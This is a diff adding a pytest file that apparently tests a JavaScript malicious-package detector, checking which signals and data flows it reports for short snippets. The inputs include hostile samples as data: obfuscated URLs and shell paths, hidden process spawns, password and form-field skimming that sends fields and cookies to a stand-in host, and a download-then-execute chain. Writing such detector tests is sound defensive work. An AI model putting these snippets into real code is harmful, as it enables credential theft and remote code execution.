@@ -1,0 +1,103 @@
+"""Snippets and what they mean: front end and catalogue together."""
+
+import pytest
+
+from packamal.detectors.interpret import interpret
+from packamal.detectors.javascript import read
+from packamal.detectors.units import Language, Unit
+from packamal.model import Role
+
+TABLE = 'var t="htps:/.exmalocn?d=rg";'
+
+
+def spelt(text: str) -> str:
+    table = "htps:/.exmalocn?d=rg"
+    return "+".join(f"t[{table.index(character)}]" for character in text)
+
+
+def signals_of(source: str):
+    unit = Unit("index.js", "index.js", source.encode(), Language.JAVASCRIPT, Role.IMPORT)
+    observed = interpret(read([unit], {unit.path: unit}), {unit.name: unit}, "javascript", "a.tgz")
+    shown = [f"{signal.id} {signal.target}".strip() for signal in observed.signals]
+    return shown, {f"{shown[flow.source]} -> {shown[flow.sink]}" for flow in observed.flows}
+
+
+@pytest.mark.parametrize(
+    ("source", "expected"),
+    [
+        (f"{TABLE} fetch({spelt('https://exam.cc')})", ["decode.chars https://exam.cc"]),
+        ("fetch(String.fromCharCode(104,116,116,112,115,58,47,47,97,46,99,111))", ["decode.chars https://a.co"]),
+        ("f(Buffer.from([47,98,105,110,47,98,97,115,104]).toString())", ["decode.chars /bin/bash"]),
+        ("f(['/', 't', 'm', 'p', '/', 'r', 'u', 'n'].join(''))", ["decode.chars /tmp/run"]),
+        (
+            "function d(a) { let s = ''; for (const c of a) s += String.fromCharCode(c ^ 1); return s; } "
+            "f(d([105, 117, 117, 113, 59, 46, 46, 96, 47, 99, 110]))",
+            ["decode.chars http://a.bo"],
+        ),
+        ("f(atob('aHR0cHM6Ly9hLmV4YW1wbGUvcA=='))", ["decode.text https://a.example/p"]),
+        ("f(Buffer.from('L3RtcC9ydW4=', 'base64').toString())", ["decode.text /tmp/run"]),
+        ("f(unescape('%68%74%74%70%3a%2f%2f%61%2e%62'))", ["decode.text http://a.b"]),
+        ("require('\\x76\\x6d')['run']('x')", ["obf.names in escapes: vm", "obf.import vm"]),
+        ("const k = 'ex' + 'ec'; require('child_process')[k]('id', f)", ["obf.import child_process.exec"]),
+        ("global['ev' + 'al'](f)", ["obf.import eval"]),
+        ("require('child_process').spawn('a', [], {detached: true, stdio: 'ignore'})", ["proc.hidden a"]),
+        ("f(document.forms[0].elements[1].value)", ["input.keyboard value"]),
+        ("f(document.querySelector('input[type=password]').value)", ["input.keyboard input[type=password]"]),
+        ("new Image().src = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
+        ("location.href = 'https://a.example/?' + x", ["net.send https://a.example/?{x}"]),
+        ("document.createElement('script').src = 'https://a.example/x.js'", ["net.fetch https://a.example/x.js"]),
+        (
+            "document.forms[0].addEventListener('submit', function () { this.action = 'https://a.example/?' + x })",
+            ["net.send https://a.example/?{x}"],
+        ),
+    ],
+)
+def test_a_snippet_means(source: str, expected: list[str]) -> None:
+    shown, _ = signals_of(source)
+    assert set(expected) <= set(shown)
+
+
+@pytest.mark.parametrize(
+    ("source", "family"),
+    [
+        ("const e = new Error(), k = 'sta' + 'ck'; f(e[k])", "obf."),
+        ("const k = 'readFile'; require('fs')[k]('x', f)", "obf."),
+        ("window['on' + 'click'] = f", "obf."),
+        ("const t = ['a\\x1b[0m', '\\u2028']; f(t)", "obf."),
+        ("const m = " + str([f"message number {n}" for n in range(20)]) + ";"
+         + ";".join(f"f(m[{n}])" for n in range(20)), "obf."),
+        ("require('child_process').exec('a', {windowsHide: true})", "proc.hidden"),
+        ("require('child_process').spawn('a', [], {stdio: 'ignore'})", "proc.hidden"),
+        ("f(unescape(encodeURIComponent(x)))", "decode."),
+        ("f(String.fromCharCode(8232))", "decode."),
+        ("f(['a', 'b', 'c'].join(''))", "decode."),
+        ("document.createElement('img').src = path", "net."),
+        ("f(document.getElementById('main').value)", "input."),
+    ],
+)  # fmt: skip
+def test_an_ordinary_snippet_does_not(source: str, family: str) -> None:
+    shown, _ = signals_of(source)
+    assert not [signal for signal in shown if signal.startswith(family)]
+
+
+def test_typed_fields_flow_to_an_address_that_is_spelt_out() -> None:
+    source = f"""{TABLE} var u = {spelt("https://exam.cc/?d=")};
+    document.forms[0].addEventListener("submit", function () {{
+      let all = ""; for (let i = 0; i < this.elements.length; i++) all += this.elements[i].value;
+      const l = document.createElement("link"); l.rel = "prefetch"; l.href = u + btoa(all + document.cookie);
+    }});"""
+    _, flows = signals_of(source)
+    sink = "net.send https://exam.cc/?d={btoa()}"
+    assert {f"decode.chars https://exam.cc/?d= -> {sink}", f"input.keyboard value -> {sink}"} <= flows
+    assert f"cred.read -> {sink}" in flows
+
+
+@pytest.mark.parametrize("write", ["r.pipe(o)", "r.on('data', d => o.write(d))", "r.on('data', d => { o.end(d) })"])
+def test_what_is_fetched_goes_into_the_file_it_is_written_to_and_runs(write: str) -> None:
+    _, flows = signals_of(
+        "const fs = require('fs'); require('https').get('https://a.example/x', r => { "
+        f"const o = fs.createWriteStream('/tmp/tool-x'); {write}; r.on('end', () => "
+        "require('child_process').execFile('/tmp/tool-x', [], f)) })"
+    )
+    assert "net.fetch https://a.example/x -> file.write /tmp/tool-x" in flows
+    assert "file.write /tmp/tool-x -> proc.exec /tmp/tool-x" in flows
